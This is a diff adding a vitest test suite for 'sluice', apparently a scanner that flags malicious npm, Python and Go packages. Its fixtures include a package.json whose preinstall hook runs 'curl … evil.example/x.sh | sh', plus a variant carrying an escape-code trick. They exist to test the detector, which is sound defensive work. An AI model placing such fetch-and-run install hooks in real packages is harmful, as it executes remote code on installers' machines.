@@ -1,0 +1,133 @@
+import { existsSync } from 'node:fs'
+import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { goZip, tarball, wheel } from '../../test/harness/archives.ts'
+import { sluice } from '../../test/harness/cli.ts'
+import { startFakeNpm } from '../../test/fakes/npm.ts'
+import type { FakeNpm } from '../../test/fakes/npm.ts'
+
+const BAD = { name: 'bad', version: '1.0.0', scripts: { preinstall: 'curl -s http://files.evil.example/x.sh | sh' } }
+
+let folder: string
+let npm: FakeNpm
+const at = (name: string): string => join(folder, name)
+
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'sluice-cli-'))
+  npm = await startFakeNpm([{ name: 'left-pad', version: '1.3.0', files: { 'index.js': 'module.exports = 1\n' } }])
+  await mkdir(at('good/node_modules/other'), { recursive: true })
+  await mkdir(at('empty'))
+  await writeFile(at('good/package.json'), JSON.stringify({ name: 'good', version: '1.0.0' }))
+  await writeFile(at('good/node_modules/other/package.json'), JSON.stringify(BAD))
+  await symlink('/etc/hostname', at('good/link'))
+  await mkdir(at('bad'))
+  await writeFile(at('bad/package.json'), JSON.stringify(BAD))
+  await writeFile(at('bad.tgz'), await tarball('package', { 'package.json': JSON.stringify(BAD) }))
+  await writeFile(at('py.tar.gz'), await tarball('py-1.0', { 'PKG-INFO': 'Metadata-Version: 2.1\nName: py\nVersion: 1.0\n', 'setup.py': 'from setuptools import setup\nsetup()\n' }))
+  await writeFile(at('good-1.0-py3-none-any.whl'), wheel('good', '1.0'))
+  await writeFile(at('v1.0.0.zip'), goZip('mod.example/x', 'v1.0.0', { 'go.mod': 'module mod.example/x\n', 'x.go': 'package x\n' }))
+  await writeFile(at('broken.tgz'), 'this is no archive')
+  await writeFile(at('nothing.tgz'), await tarball('package', { 'readme.md': 'hello' }))
+})
+
+afterAll(async () => {
+  await npm.close()
+  await rm(folder, { recursive: true, force: true })
+})
+
+const scan = (args: readonly string[], data = at('data')) => sluice(['scan', ...args], { gate: { data, sources: { npm: { url: npm.url, sumdb: null } } } })
+
+describe('sluice scan', () => {
+  it.each([
+    ['good', 0, 'clean'],
+    ['py.tar.gz', 0, 'clean'],
+    ['good-1.0-py3-none-any.whl', 0, 'clean'],
+    ['v1.0.0.zip', 0, 'clean'],
+    ['bad', 1, 'malicious'],
+    ['bad.tgz', 1, 'malicious'],
+    ['broken.tgz', 2, 'undetermined'],
+  ])('%s: exit code %i, %s', async (name, code, level) => {
+    const ran = await scan([at(name), '--json'])
+    expect(ran.code).toBe(code)
+    expect(ran.json()).toMatchObject([{ target: at(name), level }])
+  })
+
+  it('prints the shape that scripts rely on', async () => {
+    const [report] = (await scan([at('bad.tgz'), '--json'])).json() as Record<string, unknown>[]
+    expect(Object.keys(report ?? {})).toEqual(['target', 'level', 'score', 'findings', 'indicators', 'missing', 'elapsedMs'])
+    const [finding] = report?.['findings'] as Record<string, unknown>[]
+    expect(Object.keys(finding ?? {})).toEqual(['detector', 'behaviour', 'severity', 'confidence', 'title', 'evidence'])
+    expect((finding?.['evidence'] as object[])[0]).toEqual({ file: 'package.json', lines: [1, 1], excerpt: expect.any(String), says: expect.any(String) })
+  })
+
+  it('leaves out other packages and links, and says so apart from the data', async () => {
+    const ran = await scan([at('good')])
+    expect(ran.out).toMatch(/good {2}clean {2}score 0/)
+    expect(ran.err).toContain('not looked at: link (a link), node_modules/')
+  })
+
+  it.each([
+    [['empty'], 'holds no package.json'],
+    [['nothing.tgz'], 'holds no package.json'],
+    [['missing.tgz'], 'cannot read'],
+    [['empty', '--ecosystem', 'cargo'], "argument 'cargo' is invalid"],
+    [[], 'missing required argument'],
+  ])('%j is no target: exit code 2 and a sentence', async (args, says) => {
+    const ran = await scan(args.map((arg) => (/^(?:empty|nothing|missing)/.test(arg) ? at(arg) : arg)))
+    expect(ran.code).toBe(2)
+    expect(ran.err + ran.out).toContain(says)
+  })
+
+  it('writes SARIF 2.1.0', async () => {
+    const ran = await scan([at('bad.tgz'), at('good'), '--format', 'sarif'])
+    expect(ran.code).toBe(1)
+    const { version, runs: [only] } = ran.json() as { version: string; runs: { tool: { driver: { rules: { id: string }[] } }; results: { ruleId: string; level: string; locations: { physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }[] }[] }[] }
+    expect(version).toBe('2.1.0')
+    expect(only?.tool.driver.rules.map(({ id }) => id)).toEqual(['hook-downloads'])
+    expect(only?.results).toMatchObject([{ ruleId: 'hook-downloads', level: 'error', locations: [{ physicalLocation: { region: { startLine: 1 } } }] }])
+    expect(only?.results[0]?.locations[0]?.physicalLocation.artifactLocation.uri).toMatch(/^file:\/\/\/.*bad\.tgz\/package\.json$/)
+  })
+
+  it('admits packages by name, and keeps the verdict in a data folder that is named', async () => {
+    const data = at('kept')
+    const ran = await scan(['npm:left-pad@1.3.0', 'npm:left-pad@9.9.9', '--json', '--data', data], data)
+    expect(ran.code).toBe(2)
+    expect(ran.json()).toMatchObject([{ level: 'clean', missing: [] }, { level: 'undetermined', missing: ['left-pad has no version 9.9.9 upstream'] }])
+    expect(ran.err).toContain('has no version 9.9.9')
+    const traced = await sluice(['trace', 'npm:left-pad', '--all', '--json'], { gate: { data } })
+    expect(traced.json()).toMatchObject({ lines: [{ entry: { kind: 'decided', reason: 'clean', version: '1.3.0' } }] })
+  })
+
+  it('leaves nothing behind where there is no data folder', async () => {
+    const data = at('none')
+    expect((await scan(['npm:left-pad@1.3.0'], data)).code).toBe(0)
+    expect(existsSync(data)).toBe(false)
+  })
+
+  it('asks which version', async () => {
+    const ran = await scan(['npm:left-pad'])
+    expect([ran.code, ran.err]).toEqual([2, 'sluice: which version of left-pad?\n  write npm:left-pad@VERSION\n'])
+  })
+
+  it('knows what advisories call malicious', async () => {
+    const data = at('advised')
+    const record = { id: 'MAL-2026-1', modified: '2026-01-01T00:00:00Z', summary: 'steals tokens', affected: [{ package: { ecosystem: 'npm', name: 'left-pad' }, versions: ['1.3.0'] }] }
+    await writeFile(at('feed.json'), JSON.stringify(record))
+    expect((await sluice(['feed', 'import', at('feed.json')], { gate: { data } })).out).toContain('1 record imported')
+    const ran = await scan(['npm:left-pad@1.3.0'], data)
+    expect(ran.code).toBe(1)
+    expect(ran.out).toContain('known malicious: MAL-2026-1')
+  })
+
+  it('colours a terminal only, and never passes on control characters of a package', async () => {
+    await mkdir(at('odd'), { recursive: true })
+    await writeFile(at('odd/package.json'), JSON.stringify({ ...BAD, scripts: { preinstall: `curl http://\u001b[31mevil.example/x | sh` } }))
+    const args = ['scan', at('odd')]
+    const gate = { data: at('data') }
+    expect((await sluice(args, { gate })).out).not.toContain('\u001b')
+    expect((await sluice(args, { gate, tty: true, env: { NO_COLOR: '1' } })).out).not.toContain('\u001b')
+    expect((await sluice(args, { gate, tty: true })).out).toContain('\u001b[31mmalicious')
+  })
+})
